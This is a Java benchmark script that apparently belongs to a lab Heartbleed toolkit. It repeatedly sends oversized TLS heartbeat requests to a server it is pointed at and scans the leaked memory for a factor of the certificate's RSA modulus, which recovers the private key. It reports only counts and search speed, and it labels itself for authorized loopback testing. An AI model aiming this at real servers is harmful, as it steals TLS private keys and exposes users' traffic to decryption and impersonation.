import io.heartguard.keys.FactorSearch;
import io.heartguard.keys.KeyRecovery;
import io.heartguard.lab.EncryptedAttack;
import io.heartguard.wire.record.ProtocolVersion;
import io.heartguard.wire.tls.TlsSession;
import java.net.InetSocketAddress;
import java.nio.file.Path;
import java.time.Duration;

/**
 * How many Heartbleed requests does a key take? Against a server of ours on loopback (AUTHORIZED TESTING ONLY):
 * connections of ROUNDS full-size requests each (lab client --encrypted's: payload_length 65535, sent encrypted after
 * a full handshake), every leak searched in memory for a factor of CERT's modulus as it arrives, until one is found or
 * MAX_CONNECTIONS is reached. Prints counts and the search's speed over the real leaked bytes; never the bytes or the
 * key.
 *
 * <p>Usage: java -cp CP bench/keys/KeyHunt.java HOST:PORT CERT.pem MAX_CONNECTIONS ROUNDS
 */
public final class KeyHunt {
  public static void main(String[] args) throws Exception {
    String[] hostPort = args[0].split(":");
    InetSocketAddress server = new InetSocketAddress(hostPort[0], Integer.parseInt(hostPort[1]));
    var key = KeyRecovery.certificateKey(Path.of(args[1]));
    int maxConnections = Integer.parseInt(args[2]);
    int rounds = Integer.parseInt(args[3]);
    FactorSearch search = new FactorSearch(key.getModulus());
    long[] leakedBytes = {0};
    long[] searchNanos = {0};
    int[] requests = {0};
    FactorSearch.Found[] found = {null};
    for (int c = 1; c <= maxConnections && found[0] == null; c++) {
      int connection = c;
      EncryptedAttack.Outcome outcome = new EncryptedAttack(ProtocolVersion.TLS1_2, TlsSession.allSuites(), null, rounds,
          0xffff, Duration.ofSeconds(10)).run(server, (round, buffer, offset, length) -> {
            requests[0]++;
            leakedBytes[0] += length;
            if (found[0] == null) {
              long t0 = System.nanoTime();
              found[0] = search.search(buffer, offset, offset + length, offset + length, 0);
              searchNanos[0] += System.nanoTime() - t0;
              if (found[0] != null) {
                System.out.printf("FOUND after %d connections, %d full-size requests, %d leaked bytes: %s, %d bits,"
                    + " in round %d of connection %d%n", connection, requests[0], leakedBytes[0],
                    found[0].order().label(), found[0].prime().bitLength(), round, connection);
              }
            }
            java.util.Arrays.fill(buffer, offset, offset + length, (byte) 0);
          });
      if (outcome.leaks() < rounds) {
        System.out.println("connection " + c + ": " + outcome.reason());
      }
      if (c % 10 == 0 && found[0] == null) {
        System.out.printf("%d connections, %d requests, %d leaked bytes, nothing yet%n", c, requests[0], leakedBytes[0]);
      }
    }
    if (found[0] == null) {
      System.out.printf("NOT FOUND within %d connections, %d full-size requests, %d leaked bytes%n", maxConnections,
          requests[0], leakedBytes[0]);
    }
    System.out.printf("search over the real leaked bytes: %.1f MB/s (%d bytes in %.3f s, one core)%n",
        leakedBytes[0] / 1e6 / (searchNanos[0] / 1e9), leakedBytes[0], searchNanos[0] / 1e9);
  }
}
